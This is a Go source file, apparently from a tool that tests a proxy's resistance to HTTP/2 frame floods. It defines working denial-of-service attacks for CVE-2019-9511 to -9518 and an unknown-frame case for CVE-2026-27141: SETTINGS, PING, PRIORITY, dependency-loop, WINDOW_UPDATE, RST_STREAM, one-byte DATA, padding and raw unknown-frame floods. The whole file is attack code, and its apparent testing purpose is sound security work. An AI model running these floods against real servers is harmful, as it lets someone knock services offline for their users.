package attack

import (
	"errors"

	"golang.org/x/net/http2"
)

// floods are the attacks by frames that mean nothing (CVE-2019-9511 to -9518),
// some of which have to be answered.
func floods() []Attack {
	made := func(name string, one func(*session) error) Attack {
		return Attack{Name: name, Within: cutOff, run: flood{burst: repeated(one)}.run}
	}
	return []Attack{
		made("SETTINGS flood", func(s *session) error { return s.Framer.WriteSettings() }),
		made("SETTINGS that change", changingSettings),
		made("PING flood", ping),
		{Name: "PING flood, TLS", Within: cutOff, run: flood{secure: true, burst: repeated(ping)}.run},
		made("empty DATA flood", onStream(func(s *session) error { return s.Framer.WriteData(s.stream, false, nil) })),
		{Name: "DATA of one byte", run: flood{burst: repeated(onStream(oneByte))}.hold},
		{Name: "DATA of one byte on streams in turn", run: flood{burst: repeated(oneByteInTurn)}.hold},
		made("padding alone", onStream(func(s *session) error {
			return s.Framer.WriteDataPadded(s.stream, false, nil, make([]byte, 255))
		})),
		made("PRIORITY flood", func(s *session) error {
			return s.Framer.WritePriority(1, http2.PriorityParam{StreamDep: 3, Weight: 7})
		}),
		made("dependency loop", func(s *session) error {
			return errors.Join(
				s.Framer.WritePriority(1, http2.PriorityParam{StreamDep: 3, Exclusive: true}),
				s.Framer.WritePriority(3, http2.PriorityParam{StreamDep: 1, Exclusive: true}))
		}),
		made("WINDOW_UPDATE flood", func(s *session) error { return s.Framer.WriteWindowUpdate(0, 1) }),
		made("WINDOW_UPDATE flood on a stream", onStream(func(s *session) error {
			return s.Framer.WriteWindowUpdate(s.stream, 1)
		})),
		made("unknown frames", unknownFrames),
		made("RST_STREAM of closed streams", func(s *session) error {
			if s.stream == 0 {
				return s.open(true)
			}
			return s.Framer.WriteRSTStream(1, http2.ErrCodeCancel)
		}),
	}
}

func ping(s *session) error { return s.Framer.WritePing(false, [8]byte{}) }

// onStream makes the attack on one stream that stays open.
func onStream(one func(*session) error) func(*session) error {
	return func(s *session) error {
		if s.stream == 0 {
			if err := s.open(false); err != nil {
				return err
			}
		}
		return one(s)
	}
}

// oneByte sends a body in the least pieces there are.
func oneByte(s *session) error { return s.Framer.WriteData(s.stream, false, []byte{'x'}) }

// oneByteInTurn sends several, whose pieces do not follow each other.
func oneByteInTurn(s *session) error {
	if s.streams < 4 {
		return s.open(false)
	}
	s.turn = (s.turn + 1) % 4
	return s.Framer.WriteData(1+2*s.turn, false, []byte{'x'})
}

// changingSettings makes the proxy go over all of its streams each time.
func changingSettings(s *session) error {
	if s.streams < 100 {
		return s.open(false)
	}
	return errors.Join(
		s.Framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1 << 20}),
		s.Framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1 << 10}))
}

// unknownFrames sends the frame types that HTTP/2 has no name for, or that an
// extension has (CVE-2026-27141), with and without a stream and a payload.
func unknownFrames(s *session) error {
	var failed error
	for kind := http2.FrameType(0x0a); kind <= 0x13; kind++ {
		failed = errors.Join(failed,
			s.Framer.WriteRawFrame(kind, 0xff, 0, nil),
			s.Framer.WriteRawFrame(kind, 0, 1, make([]byte, 64)))
	}
	return failed
}
